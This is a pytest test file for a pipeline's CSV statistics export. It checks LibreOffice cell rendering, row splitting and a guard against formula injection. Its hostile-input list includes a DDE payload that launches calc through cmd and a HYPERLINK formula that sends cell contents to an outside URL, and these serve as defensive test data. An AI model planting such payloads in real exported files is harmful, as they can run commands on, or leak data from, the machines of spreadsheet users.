"""Statistics as a spreadsheet shows them: LibreOffice opens the CSV, and every cell is compared."""

from __future__ import annotations

import csv
import io
import math
import zlib

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from directories import descriptor, only
from libreoffice import convert, make_profile, parse_fods
from machine import needs_libreoffice
from project import FIXTURE_STORE
from samples import row, write_ndjson

import pipeline as package
from pipeline.writers.formats import MAX_SHEET_ROWS

# Comma, double quote, UTF-8, from the first line on: what its import dialog proposes for such a file.
CSV_FILTER = "CSV:44,34,76,1"
WORKSHEET_ROWS = 1_048_576
TEXT_COLUMNS = {"session_id", "metric", "unit", "robot_id", "network_profile", "channel", "label"}
TIME_COLUMNS = {"window_start", "window_end", "first_timestamp", "last_timestamp"}
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"x")',
    '"=1+1"',
    "'=1+1",
    'say "hi", then\nleave',
    "a,=1+1",
    "x\n=1+1",
    "\uff1d1+1",
    "\uff20SUM(1,1)",
    "😀 é ß",
    "plain",
]


@pytest.fixture(scope="module")
def profile(tmp_path_factory):
    """English, whatever the machine's language is."""
    return make_profile(tmp_path_factory.mktemp("libreoffice") / "profile", "en-US")


@pytest.fixture
def opened(profile, tmp_path):
    """Opens CSV files in LibreOffice; gives the rows of each, as (kind, value, formula)."""
    return lambda *paths: [
        parse_fods(path) for path in convert(profile, tmp_path / "opened", "fods", *paths, infilter=CSV_FILTER)
    ]


def statistics_csv(source, to, **options):
    """Publish statistics as CSV; gives the file."""
    package.export_statistics(source, to, sync=False, **options)
    return only(to, "statistics_*.csv")


def csv_rows(path):
    """Header and rows of a CSV file, as Python reads them."""
    data = path.read_bytes().removeprefix(b"\xef\xbb\xbf").decode("utf-8")
    header, *rows = csv.reader(io.StringIO(data, newline=""), strict=True)
    return header, rows


def shows(value, number):
    """Whether a cell has a number; LibreOffice saves fifteen significant digits."""
    return math.isclose(value, number, rel_tol=1e-14)


def check_cells(cells, header, rows):
    """Compare a sheet with the CSV: numbers are numbers, text is text, nothing is a formula."""
    assert [value for _, value, _ in cells[0]][: len(header)] == header
    assert len(cells) == len(rows) + 1
    compared = 0
    for shown, texts in zip(cells[1:], rows, strict=True):
        padded = shown + [(None, None, None)] * (len(header) - len(shown))
        for name, (kind, value, formula), text in zip(header, padded, texts, strict=False):
            assert formula is None, (name, text)
            if text == "":
                assert value in {None, ""}, (name, value)
            elif name in TEXT_COLUMNS or name in TIME_COLUMNS:
                assert (kind, value) == ("string", text), name
            else:
                assert kind == "float", (name, text)
                assert shows(value, float(text)), (name, text)
            compared += 1
    assert compared == len(header) * len(rows) > 0


@needs_libreoffice
def test_every_cell_shows_the_number_of_the_file(tmp_path, opened):
    options = {"by": ["robot_id", "channel"], "quantiles": ["0.999"]}
    paths = [
        statistics_csv(FIXTURE_STORE, tmp_path / "plain", **options),
        statistics_csv(FIXTURE_STORE, tmp_path / "windows", window="1m", scope="cross-session"),
        statistics_csv(FIXTURE_STORE, tmp_path / "people", spreadsheet=True, scope="cross-session", **options),
    ]
    assert len({path.name for path in paths}) == 3
    for path, cells in zip(paths, opened(*paths), strict=True):
        header, rows = csv_rows(path)
        assert len(rows) > 10
        check_cells(cells, header, rows)


@needs_libreoffice
@pytest.mark.parametrize("spreadsheet", [False, True])
def test_a_spreadsheet_shows_the_figures_of_the_recorded_rows(tmp_path, opened, spreadsheet):
    cells = opened(statistics_csv(FIXTURE_STORE, tmp_path / "out", spreadsheet=spreadsheet))[0]
    header = [value for _, value, _ in cells[0]]
    frame = pl.concat([pl.read_parquet(file) for file in FIXTURE_STORE.glob("sessions/*/*.parquet")], how="diagonal")
    value = pl.col("value")
    expected = frame.group_by("session_id", "metric", "unit").agg(
        value.count().alias("count"),
        value.null_count().alias("null_count"),
        value.min().alias("min"),
        value.quantile(0.5, "linear").alias("p50"),
        value.quantile(0.99, "linear").alias("p99"),
        value.max().alias("max"),
        value.mean().alias("mean"),
        value.sum().alias("sum"),
    )
    assert len(cells) == len(expected) + 1
    by_group = {tuple(r[:3]): dict(zip(expected.columns, r, strict=True)) for r in expected.rows()}
    for shown in cells[1:]:
        found = dict(zip(header, [value for _, value, _ in shown], strict=False))
        want = by_group.pop((found["session_id"], found["metric"], found["unit"]))
        for name in ("count", "null_count", "min", "max", "p50", "p99", "mean", "sum"):
            if want[name] is None or not want["count"]:
                assert found.get(name) in {None, "", 0.0}
            else:
                assert found[name] == pytest.approx(want[name], rel=1e-13), name
    assert not by_group


def hostile_source(directory, *, in_session=False):
    """Rows with hostile text in every text column."""
    rows = [
        row(
            text if in_session else f"s{at:02}",
            0,
            timestamp=f"2026-11-24T16:00:{at:02}Z",
            metric=text,
            unit=text,
            label=text,
            value=-1.5 * at,
        )
        for at, text in enumerate(HOSTILE)
    ]
    return write_ndjson(directory / "hostile.ndjson", rows)


@needs_libreoffice
def test_hostile_text_is_no_formula_in_the_variant_for_spreadsheets(tmp_path, opened):
    source = hostile_source(tmp_path / "in", in_session=True)
    path = statistics_csv(source, tmp_path / "out", spreadsheet=True, by=["label"])
    cells = opened(path)[0]
    header, rows = csv_rows(path)
    assert [value for _, value, _ in cells[0]] == header
    assert len(cells) == len(HOSTILE) + 1
    # Carriage returns are line ends to a spreadsheet, as in any text.
    unify = str.maketrans({"\r": "\n"})
    for shown, texts, text in zip(cells[1:], rows, HOSTILE, strict=True):
        guarded = "'" + text if text.startswith(FORMULA_TRIGGERS) else text
        found = dict(zip(header, shown, strict=False))
        for name in ("session_id", "metric", "unit", "label"):
            kind, value, formula = found[name]
            assert formula is None, (name, text)
            assert kind == "string", (name, text)
            assert value.translate(unify) == guarded.translate(unify), name
        # Numbers below zero begin with a minus and stay numbers.
        assert found["mean"][0] == found["min"][0] == "float"
        assert found["mean"][1] == float(texts[header.index("mean")])


@needs_libreoffice
def test_plain_csv_would_be_a_formula_which_shows_that_the_guard_is_needed(tmp_path, opened):
    source = hostile_source(tmp_path / "in")
    cells = opened(statistics_csv(source, tmp_path / "out"))[0]
    assert any(formula is not None for shown in cells for _, _, formula in shown)


def test_the_guard_is_on_text_columns_and_their_names_alone(tmp_path):
    source = hostile_source(tmp_path / "in", in_session=True)
    plain = statistics_csv(source, tmp_path / "plain", by=["label"])
    guarded = statistics_csv(source, tmp_path / "guarded", by=["label"], spreadsheet=True)
    header, rows = csv_rows(plain)
    guarded_header, guarded_rows = csv_rows(guarded)
    assert header == guarded_header
    for texts, guarded_texts in zip(rows, guarded_rows, strict=True):
        for name, text, shown in zip(header, texts, guarded_texts, strict=True):
            needs = name in TEXT_COLUMNS and text.startswith(FORMULA_TRIGGERS)
            assert shown == ("'" + text if needs else text), name
    assert any(text.startswith("-") for texts in guarded_rows for text in texts)
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert guarded.read_bytes().startswith(b"\xef\xbb\xbfsession_id,")


def test_a_hostile_column_name_is_guarded(tmp_path):
    source = write_ndjson(tmp_path / "a.ndjson", [row(**{"=1+1": "x"})])
    path = statistics_csv(source, tmp_path / "out", by=["=1+1"], spreadsheet=True)
    assert csv_rows(path)[0][3] == "'=1+1"
    path = statistics_csv(source, tmp_path / "plain", by=["=1+1"])
    assert csv_rows(path)[0][3] == "=1+1"


def test_all_tables_of_the_variant_are_guarded_and_the_package_says_so(tmp_path):
    source = hostile_source(tmp_path / "in", in_session=True)
    options = {"format": "csv", "with_statistics": True, "spreadsheet": True, "sync": False}
    package.export_measurements(source, tmp_path / "out", **options)
    for pattern in ("sessions_*.csv", "measurements_*.csv", "statistics_*.csv"):
        path = only(tmp_path / "out", pattern)
        assert path.read_bytes().startswith(b"\xef\xbb\xbf"), pattern
        for texts in csv_rows(path)[1]:
            assert not texts[0].startswith(FORMULA_TRIGGERS), pattern
    assert descriptor(tmp_path / "out")["pipeline:options"]["spreadsheet"] is True


@pytest.mark.parametrize("format", ["ndjson", "json", "parquet", "arrow"])
def test_other_formats_have_no_such_variant(tmp_path, format):  # noqa: A002 - the option's name
    with pytest.raises(package.UsageError, match="spreadsheet"):
        package.export_statistics(FIXTURE_STORE, tmp_path / "out", format=format, spreadsheet=True)


def test_files_are_split_before_a_worksheet_is_full():
    # One row of a worksheet is the header's.
    assert WORKSHEET_ROWS - 1 >= MAX_SHEET_ROWS > 1_000_000


@needs_libreoffice
def test_parts_have_each_a_header_and_are_the_table_together(tmp_path, opened):
    to = tmp_path / "out"
    report = package.export_statistics(FIXTURE_STORE, to, rows_per_file=50, spreadsheet=True, sync=False)
    paths = sorted(to.glob("statistics_*_part-*.csv"))
    whole = statistics_csv(FIXTURE_STORE, tmp_path / "whole", spreadsheet=True)
    header, rows = csv_rows(whole)
    assert [len(csv_rows(path)[1]) for path in paths] == [50, 50, 43]
    assert [r for path in paths for r in csv_rows(path)[1]] == rows
    assert len([file for file in report.files if "_part-" in file.name]) == 3
    for path, cells in zip(paths, opened(*paths), strict=True):
        check_cells(cells, header, csv_rows(path)[1])


def test_more_rows_than_a_worksheet_holds_are_split_without_being_asked(tmp_path):
    rows = MAX_SHEET_ROWS + 2
    table = pa.table(
        {
            "session_id": pa.repeat(pa.scalar("s"), rows),
            "sequence": pa.array(range(rows), pa.int64()),
            "timestamp": pa.repeat(pa.scalar(0, pa.timestamp("us", "UTC")), rows),
            "metric": pa.repeat(pa.scalar("m"), rows),
            "value": pa.repeat(pa.scalar(1.5), rows),
            "unit": pa.repeat(pa.scalar("ms"), rows),
        }
    )
    pq.write_table(table, tmp_path / "a.parquet")
    options = {"format": "csv", "spreadsheet": True, "columns": ["sequence"], "sync": False, "hashed": False}
    report = package.export_measurements(tmp_path / "a.parquet", tmp_path / "out", **options)
    counts = {file.name[-13:]: file.rows for file in report.files if file.name.startswith("measurements")}
    assert counts == {"part-0001.csv": MAX_SHEET_ROWS, "part-0002.csv": 2}
    first = only(tmp_path / "out", "measurements_*_part-0001.csv")
    assert first.read_bytes().count(b"\n") <= WORKSHEET_ROWS


@needs_libreoffice
def test_numbers_of_every_magnitude_stay_numbers(tmp_path, opened):
    numbers = [0.1, -0.0, 1e-7, 1e16, 1.7976931348623157e308, 5e-324, -123456789.12345679, 2.0**53, 1e300]
    rows = [row(sequence=at, value=value, metric=f"m{at}") for at, value in enumerate(numbers)]
    rows += [row(sequence=90 + at, value=value, metric="sum") for at, value in enumerate([1.7e308, 1.7e308])]
    path = statistics_csv(write_ndjson(tmp_path / "a.ndjson", rows), tmp_path / "out")
    cells = opened(path)[0]
    header, texts = csv_rows(path)
    at_min = header.index("min")
    for shown, line in zip(cells[1:], texts, strict=True):
        kind, value, formula = shown[at_min]
        assert (kind, formula) == ("float", None)
        # A spreadsheet knows no subnormal numbers and no sign of zero.
        assert shows(value, float(line[at_min])) or 0 < float(line[at_min]) < 1e-307
    # A sum beyond float64 is a word, which no spreadsheet adds up by mistake.
    overflowed = dict(zip(header, cells[-1], strict=False))["sum"]
    assert overflowed[:2] == ("string", "inf")


@needs_libreoffice
def test_what_is_decompressed_opens_like_the_plain_file(tmp_path, opened):
    to = tmp_path / "out"
    package.export_statistics(FIXTURE_STORE, to, compression="gzip", spreadsheet=True, sync=False)
    packed = only(to, "statistics_*.csv.gz")
    path = tmp_path / "unpacked.csv"
    path.write_bytes(zlib.decompress(packed.read_bytes(), wbits=31))
    header, rows = csv_rows(path)
    check_cells(opened(path)[0], header, rows)
